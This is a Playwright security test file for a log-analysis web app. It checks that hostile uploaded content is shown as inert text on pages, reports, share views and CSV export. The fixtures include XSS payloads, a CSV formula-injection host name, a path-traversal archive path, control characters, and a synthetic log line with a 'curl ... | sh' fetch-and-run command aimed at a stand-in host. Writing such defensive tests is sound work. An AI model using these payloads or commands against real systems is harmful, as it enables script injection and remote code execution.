// Uploaded content is attacker-controlled. Log lines, host names and file names carrying
// HTML, script, `javascript:` URLs, ANSI escapes, NUL bytes, right-to-left overrides and a
// 1 MB line go through the whole product: every page that shows them, the report, its share
// view and its CSV export. Each payload would set window.__xss or open a dialog if it ran.
import fs from 'node:fs';
import path from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { at, syslogTime, writeTarGz } from '../test/make-data';
import { waitForReady } from './helpers';

const dir = path.join(import.meta.dirname, '..', 'test-results', 'hostile');
const ATTACKER = '203.0.113.66';
const PAYLOAD_USERS = ['"><script>window.__xss=1</script>', '<svg/onload=window.__xss=2>', 'javascript:window.__xss=3', '<img/src=x/onerror=window.__xss=4>'];
const HOSTILE_HOST = '<svg/onload=window.__xss=5>';
const FORMULA_HOST = '=SUM(1+1)';
const UPLOAD_NAME = '"><img src=x onerror=window.__xss=6>\u202Egnp.tar.gz';

function authLog(host: string): string {
  const lines: string[] = [];
  for (let i = 0; i < 24; i++) {
    const user = PAYLOAD_USERS[i % PAYLOAD_USERS.length];
    lines.push(`${syslogTime(at(600 + i * 2))} ${host} sshd[${4000 + i}]: Failed password for invalid user ${user} from ${ATTACKER} port ${40000 + i} ssh2`);
  }
  lines.push(`${syslogTime(at(700))} ${host} sshd[4100]: Accepted password for root from ${ATTACKER} port 41000 ssh2`);
  lines.push(
    `${syslogTime(at(760))} ${host} sudo:   www-data : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl http://x/<script>window.__xss=7</script>|sh`,
  );
  lines.push(`${syslogTime(at(770))} ${host} sshd[4101]: Invalid user \u001b[31mred\u001b[0m\u0000nul\u202Eevil from ${ATTACKER} port 41001`);
  lines.push(`${syslogTime(at(780))} ${host} kernel: ${'A'.repeat(1024 * 1024)}`);
  return `${lines.join('\n')}\n`;
}

async function assertInert(page: Page, where: string): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), `script ran on ${where}`).toBeUndefined();
  // No element the payloads could have created as markup.
  expect(await page.locator('main script, main svg[onload], main img[onerror]').count(), where).toBe(0);
}

test('hostile log lines, host names and file names are shown as inert text everywhere', async ({ page, browser }) => {
  test.setTimeout(300_000);
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const bundle = path.join(dir, 'bundle.tar.gz');
  await writeTarGz(bundle, [
    { name: 'web01/var/log/auth.log', body: authLog('web01') },
    { name: `${HOSTILE_HOST}/var/log/auth.log`, body: authLog(HOSTILE_HOST) },
    { name: `${FORMULA_HOST}/var/log/auth.log`, body: authLog(FORMULA_HOST) },
    { name: '../../escape/<b>x</b>.log', body: 'never read\n' },
  ]);

  await page.goto('/');
  await page.getByRole('textbox', { name: 'Name' }).fill('<script>window.__xss=8</script> hostile');
  await page.getByLabel('Log bundle').setInputFiles({ name: UPLOAD_NAME, mimeType: 'application/gzip', buffer: fs.readFileSync(bundle) });
  await page.getByRole('button', { name: 'Upload and analyze' }).click();
  await page.waitForURL(/\/assessments\//);
  await waitForReady(page);
  const overview = page.url();
  // Shown, as text.
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('<script>window.__xss=8</script> hostile');
  await expect(page.getByText(/"\.\." in archive path: member refused/).first()).toBeVisible();
  await assertInert(page, 'overview');

  // Every activity's drill-down: the raw lines carry the payloads.
  const links = await page
    .getByTestId('activity-table')
    .locator('tbody tr a[href*="/activities/"]')
    .evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
  expect(links.length).toBeGreaterThan(0);
  let sawPayload = false;
  for (const href of links.slice(0, 6)) {
    await page.goto(`${href}?source=logs`);
    const text = await page
      .getByTestId('evidence')
      .innerText()
      .catch(() => '');
    if (text.includes('<script>window.__xss=1</script>') || text.includes('<svg/onload=window.__xss=2>')) sawPayload = true;
    await assertInert(page, href);
  }
  expect(sawPayload, 'the payload lines are shown verbatim').toBe(true);

  // The host named by markup has a page of its own, reached through an encoded link.
  await page.goto(`${overview}/hosts/${encodeURIComponent(HOSTILE_HOST)}`);
  await expect(page.getByRole('heading', { name: /Coverage on/ })).toContainText(HOSTILE_HOST);
  await assertInert(page, 'host page');
  await page.goto(`${overview}/settings`);
  await assertInert(page, 'settings');

  // The report, its share view (raw lines allowed) and its CSV export.
  await page.goto(overview);
  await page.getByRole('button', { name: 'Create report' }).click();
  await page.waitForURL(/\/reports\/[0-9a-f-]{36}$/);
  await expect(page.getByTestId('report-evidence')).toContainText('window.__xss=');
  await assertInert(page, 'report');
  const form = page.getByRole('form', { name: 'New share link' });
  await form.getByLabel('Include raw log lines').check();
  await form.getByRole('button', { name: 'Create share link' }).click();
  const shareUrl = await page.getByRole('textbox', { name: 'New share link URL' }).inputValue();
  const csv = await (await page.request.get(`${page.url().replace('/reports/', '/api/reports/')}/export/csv`)).text();
  const anon = await browser.newContext({ storageState: { cookies: [], origins: [] } });
  const viewer = await anon.newPage();
  viewer.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await viewer.goto(shareUrl);
  await expect(viewer.getByTestId('report-evidence')).toContainText('window.__xss=');
  await assertInert(viewer, 'share view');
  await anon.close();

  // CSV: no cell may start a formula; the formula host is there, neutralised.
  const cells = csv
    .split('\r\n')
    .slice(1)
    .filter(Boolean)
    .flatMap((row) => row.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
  for (const c of cells) expect(c.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  expect(csv).toContain(`'${FORMULA_HOST}`);
  expect(dialogs).toEqual([]);
});
